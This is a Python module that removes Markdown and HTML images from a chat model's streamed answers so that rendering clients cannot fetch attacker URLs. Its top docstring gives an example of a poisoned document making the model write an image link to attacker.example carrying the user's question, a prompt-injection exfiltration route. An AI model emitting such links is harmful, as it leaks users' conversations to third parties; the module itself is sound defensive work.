"""Answers carry no images: `![alt](url)`, `![alt][ref]`, `![alt][]` and raw `<img ...>` tags become
their alt text (nothing when it is empty), in whole answers and in streamed deltas alike.

A client that renders Markdown fetches an image's URL on its own, with no click: a poisoned document
could make the model write `![x](https://attacker.example/?q=<the question>)` and leak the conversation.
Code spans and fenced code blocks are left as written. A "![" that is not an image becomes "! [" (a
shortcut image `![label]` needs only a `[label]: url` line elsewhere to load), and so does "<img" in a
tag that never closes; links stay links.

`ImageFilter` reads the text in pieces and holds back only what it cannot decide yet: from "!" to the
end of a possible image, from "<" to the end of a possible <img> tag, a backtick run until its code
span closes on that line, a fence line until it ends. What stays undecided for `max_held` characters,
or at the end, is released as text. The pieces' outputs joined equal `strip_images` of the whole.

Each character is read a bounded number of times, however the text is cut: a hostile answer such as
"![![![..." or "<img <img ..." must not hold chat's event loop for seconds.
"""
from __future__ import annotations

import html
import re

MAX_HELD = 2000
_MAX_LABEL = 999  # a reference label is at most this long (CommonMark)
_MAX_NESTING = 8  # an image in the alt text of an image in ...: deeper, the alt text is dropped
_PLAIN = re.compile(r"[^!<`\\\n]+")
_BRACKETS = re.compile(r"[\\\[\]()]")
_RUNS = {char: re.compile(f"{re.escape(char)}*") for char in "`~ "}
# In a tag, what may end it: outside quotes a quote, ">" or a "<" (which no tag holds unquoted: not one,
# to CommonMark and the renderers); inside quotes, the closing quote.
_TAG_STOPS = {"": re.compile(r"[\"'<>]"), '"': re.compile('"'), "'": re.compile("'")}
_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_IMG_ALT = re.compile(r"""\salt\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+))""", re.IGNORECASE)
# A removed image's neighbours must not join into new syntax: "!" then "[", "<" then "img", backtick runs.
_JOINING = "!<`\\"


class _More(Exception):
    """The pending text cannot be decided until more of it arrives."""


class _Pairs:
    """Where the "]" or ")" balancing each "[" or "(" of a text stands, found in one pass as the text arrives
    (backslash escapes skipped). Scanning on from every "![" instead would read "![![![..." once per "!".

    Positions count from the start of the whole text. A "[" after "!", or a "(" after "]", is never the
    second character of an escape, so this pass reads it as an opening just as a scan from it would."""

    _OPENING = {"]": "[", ")": "("}

    def __init__(self) -> None:
        self._read_to = 0
        self._open: dict[str, list[int]] = {"[": [], "(": []}
        self._closing: dict[int, int | None] = {}  # an opening's position: its closing's, None while open

    def read(self, text: str, start: int) -> None:
        """Read on to the end of `text`, which stands at position `start` of the whole text."""
        i = self._read_to - start
        while (found := _BRACKETS.search(text, i)) is not None:
            i, char = found.start(), found.group()
            if char == "\\":
                i += 2
                continue
            if char in "[(":
                self._closing[start + i] = None
                self._open[char].append(start + i)
            elif stack := self._open[self._OPENING[char]]:
                self._closing[stack.pop()] = start + i
            i += 1
        self._read_to = start + max(i, len(text))  # past the end when the text ends inside an escape

    def closing(self, opening: int, *, limit: int, final: bool) -> int | None:
        """The position of the closing that balances the opening at `opening`, if it stands at `limit` or
        before; None when it does not, or the text has ended without it. _More while it may yet come."""
        close = self._closing.get(opening)
        if close is not None or opening not in self._closing:
            return close if close is not None and close <= limit else None
        if self._read_to > limit or final:
            return None
        raise _More


class ImageFilter:
    def __init__(self, *, max_held: int = MAX_HELD, inside_tag: bool = False, nesting: int = 0) -> None:
        if max_held < 16:
            raise ValueError("max_held must be at least 16")
        self._max_held = max_held
        self._inside_tag = inside_tag  # reading an HTML tag's own text: no code, no nested tags
        self._nesting = nesting  # how many images' alt texts (or tags) this text is inside
        self._pending = ""
        self._dropped = 0  # how much text came before `_pending`
        self._pairs = _Pairs()
        self._tag_read: tuple[int, int, int, str] | None = None  # a tag read so far: where, from, to, quote
        self._fence: tuple[str, int] | None = None  # inside a fenced block: its character and length
        self._line_start = True
        self._last_out = ""
        # A backtick run already released whose code span may yet close: its length, the characters
        # released since its start (the text inside reads the same as code or as prose until a "!", "<",
        # backslash or backtick comes), and where in the whole text the search for its closing run got to.
        self._open_span: tuple[int, int, int] | None = None

    def feed(self, delta: str) -> str:
        """The text of `delta` that can be released now."""
        self._pending += delta
        return self._drain(final=False)

    def finish(self) -> str:
        """Everything still held, decided as the end of the text."""
        return self._drain(final=True)

    def _drain(self, *, final: bool) -> str:
        out: list[str] = []
        while self._pending:
            try:
                emitted, used = self._step(final)
            except _More:
                break
            if emitted:
                out.append(emitted)
                self._last_out = emitted[-1]
            if used:
                self._line_start = self._pending[used - 1] == "\n"
                self._pending = self._pending[used:]
                self._dropped += used
        return "".join(out)

    def _char(self, i: int, final: bool) -> str:
        """The pending character at `i`; "" past the end of the text."""
        if i < len(self._pending):
            return self._pending[i]
        if final:
            return ""
        raise _More

    def _step(self, final: bool) -> tuple[str, int]:
        text = self._pending
        if self._fence is not None:
            return self._in_fence(final)
        if self._open_span is not None:
            return self._in_open_span(final)
        if self._line_start and text[0] in "`~" and not self._inside_tag:
            fence = self._fence_opening(final)
            if fence is not None:
                return fence
        first = text[0]
        if first == "!":
            return self._bang(final)
        if first == "<":
            return self._angle(final)
        if first == "`" and not self._inside_tag:
            return self._backticks(final)
        if first == "\\":
            after = self._char(1, final)
            return (text[:2], 2) if after in _PUNCTUATION and after else ("\\", 1)
        if first == "\n":
            return "\n", 1
        plain = _PLAIN.match(text)
        return (plain.group(0), plain.end()) if plain else (first, 1)  # a backtick inside a tag

    # Code: fences open only at the start of a line with no indent (an indented one may belong to a list
    # item that ends sooner than it seems), and close at any line starting with a long enough run; a code
    # span closes on its own line. Reading less as code than a renderer does is the safe side.

    def _run(self, start: int, char: str, final: bool) -> int:
        end = _RUNS[char].match(self._pending, start).end()  # type: ignore[union-attr]
        if end == len(self._pending) and not final:
            raise _More
        return end - start

    def _fence_opening(self, final: bool) -> tuple[str, int] | None:
        char = self._pending[0]
        length = self._run(0, char, final)
        if length < 3:
            return None
        newline = self._pending.find("\n", length)
        line_end = len(self._pending) if newline == -1 else newline
        if line_end > self._max_held:
            return None  # too long to hold for: read as text, where images are removed
        if newline == -1 and not final:
            raise _More
        end = line_end if newline == -1 else newline + 1
        if char == "`" and "`" in self._pending[length:end]:
            return None  # an info string with a backtick: inline code, not a fence
        self._fence = (char, length)
        return self._pending[:end], end

    def _in_fence(self, final: bool) -> tuple[str, int]:
        char, length = self._fence  # type: ignore[misc]
        text = self._pending
        if self._line_start:
            indent = self._run(0, " ", final)
            if indent <= 3 and self._run(indent, char, final) >= length:
                self._fence = None
                return text[: indent + length], indent + length
        newline = text.find("\n")
        end = len(text) if newline == -1 else newline + 1
        return text[:end], end

    def _backticks(self, final: bool) -> tuple[str, int]:
        length = self._run(0, "`", final)
        self._open_span = (length, 0, 0)
        return "", 0

    def _in_open_span(self, final: bool) -> tuple[str, int]:
        length, released, read_to = self._open_span  # type: ignore[misc]
        start = length if released == 0 else 0  # past the opening run, still pending the first time
        i = max(start, read_to - self._dropped)  # on from where the text ran out last time
        try:
            while i + released <= self._max_held:
                char = self._char(i, final)
                if char in ("", "\n"):
                    break
                if char != "`":
                    i += 1
                    continue
                run = self._run(i, "`", final)
                if run == length:
                    self._open_span = None
                    return self._pending[: i + run], i + run
                i += run
        except _More:
            self._open_span = (length, released, self._dropped + i)
            safe = re.match(r"[^!<`\\\n]*", self._pending[start:])
            end = start + safe.end()  # type: ignore[union-attr]
            if end == 0:
                raise
            self._open_span = (length, released + end, self._dropped + i)
            return self._pending[:end], end
        self._open_span = None  # no code span: the run is text, and what follows it is read as prose
        if released:
            return "", 0
        return self._pending[:length], length

    # Images.

    def _bang(self, final: bool) -> tuple[str, int]:
        if self._char(1, final) != "[":
            return "!", 1
        close = self._closing_bracket(2, final)
        if close is not None:
            alt = self._pending[2:close]
            after = self._char(close + 1, final)
            if after == "(":
                end = self._closing_paren(close + 2, final)
                if end is not None:
                    return self._replacement(alt), end
            elif after == "[":
                end = self._label_end(close + 2, final)
                if end is not None:
                    return self._replacement(alt), end
        return "! ", 1  # not an image, and now none can start here; the bracket is read on as text

    def _closing_bracket(self, start: int, final: bool) -> int | None:
        """Where the "]" balancing the "[" before `start` stands."""
        return self._balancing(start - 1, final)

    def _closing_paren(self, start: int, final: bool) -> int | None:
        """The end of a destination and title from `start` (after the "("): past its balancing ")"."""
        close = self._balancing(start - 1, final)
        return None if close is None else close + 1

    def _balancing(self, opening: int, final: bool) -> int | None:
        """The index of the closing that balances the opening at `opening`, backslash escapes skipped; None
        when the text ends, or MAX_HELD is reached, first."""
        self._pairs.read(self._pending, self._dropped)
        close = self._pairs.closing(self._dropped + opening, limit=self._dropped + self._max_held, final=final)
        return None if close is None else close - self._dropped

    def _label_end(self, start: int, final: bool) -> int | None:
        i = start
        while i - start <= _MAX_LABEL and i <= self._max_held:
            char = self._char(i, final)
            if char in ("", "["):
                return None
            if char == "\\":
                i += 2
                continue
            if char == "]":
                return i + 1
            i += 1
        return None

    def _angle(self, final: bool) -> tuple[str, int]:
        tag = self._img_tag_start(final)
        if tag is None:
            return "< ", 1  # "<im" then an image removed then "g src=…>" must not make a tag
        if not tag:
            return ("<", 1) if self._inside_tag else self._inline_html(final)
        end = self._tag_end(4, final)
        if end is None or end < 0:
            return "< ", 1  # a tag that never closes is text; the space keeps it from becoming one later
        alt = _IMG_ALT.search(self._pending[:end])
        text = next((g for g in alt.groups() if g is not None), "") if alt else ""
        return self._replacement(html.unescape(text)), end

    def _tag_end(self, start: int, final: bool) -> int | None:
        """Past the ">" that ends the tag whose "<" starts the text, read from `start`, quoted values
        skipped; None when the text ends or an unquoted "<" comes first, -1 past `max_held`. Text that
        arrives later is read on from where this stopped, not again from `start`."""
        i, quote = start, ""
        if self._tag_read is not None and self._tag_read[:2] == (self._dropped, start):
            i, quote = self._tag_read[2:]
        while (found := _TAG_STOPS[quote].search(self._pending, i, self._max_held + 1)) is not None:
            i, char = found.end(), found.group()
            if quote:
                quote = ""
            elif char in "\"'":
                quote = char
            else:
                return i if char == ">" else None
        if len(self._pending) > self._max_held:
            return -1
        if final:
            return None
        self._tag_read = (self._dropped, start, len(self._pending), quote)
        raise _More

    def _img_tag_start(self, final: bool) -> bool | None:
        """Whether an <img> tag starts here; None when "<i", "<im" or "<img" meets the end of the text or
        what may be an image, whose removal could join the two."""
        for i, expected in enumerate("img ", start=1):
            char = self._char(i, final)
            if i > 1 and char in ("", "!", "<"):
                return None
            if i == 4:
                return char.isspace() or char in "/>"
            if char.lower() != expected:
                return False
        return False

    def _inline_html(self, final: bool) -> tuple[str, int]:
        """A tag, comment or autolink, whose backticks open no code span (HTML comes first in Markdown):
        read with images removed. A "<" that starts none is text."""
        end = self._html_end(final)
        if end is None:
            return "<", 1
        if end < 0:
            return "< ", 1  # longer than can be held: as for "<img", keep it from becoming a tag later
        tag = ImageFilter(max_held=self._max_held, inside_tag=True, nesting=self._nesting + 1)
        return tag.feed(self._pending[:end]) + tag.finish(), end

    def _html_end(self, final: bool) -> int | None:
        """Past the end of the inline HTML starting here; -1 past `max_held`; None when there is none."""
        second = self._char(1, final)
        if second == "!":
            third = self._char(2, final)
            if third == "-":
                if self._char(3, final) != "-":
                    return None
                return self._end_of(2, "-->", final)
            if third == "[":
                for i, expected in enumerate("CDATA[", start=3):
                    if self._char(i, final) != expected:
                        return None
                return self._end_of(9, "]]>", final)
            return self._end_of(2, ">", final) if third.isascii() and third.isalpha() else None
        if second == "?":
            return self._end_of(2, "?>", final)
        if not (second == "/" or (second.isascii() and second.isalpha())):
            return None
        return self._tag_end(1, final)

    def _end_of(self, start: int, terminator: str, final: bool) -> int | None:
        found = self._pending.find(terminator, start, self._max_held)  # not on to the end, from every "<?"
        if found != -1:
            return found + len(terminator)
        if len(self._pending) <= self._max_held:
            if final:
                return None
            raise _More
        return -1

    def _replacement(self, alt: str) -> str:
        """`alt`, itself without images, spaced off from neighbours it could form new syntax with."""
        text = ""
        if self._nesting < _MAX_NESTING:
            inner = ImageFilter(max_held=self._max_held, nesting=self._nesting + 1)
            text = inner.feed(alt) + inner.finish()
        if self._last_out and self._last_out in _JOINING:
            text = " " + text
        if text and text[-1] in _JOINING:
            text += " "
        return text


def strip_images(text: str, *, max_held: int = MAX_HELD) -> str:
    """`text` with its Markdown and HTML images replaced by their alt text, code left as written."""
    images = ImageFilter(max_held=max_held)
    return images.feed(text) + images.finish()
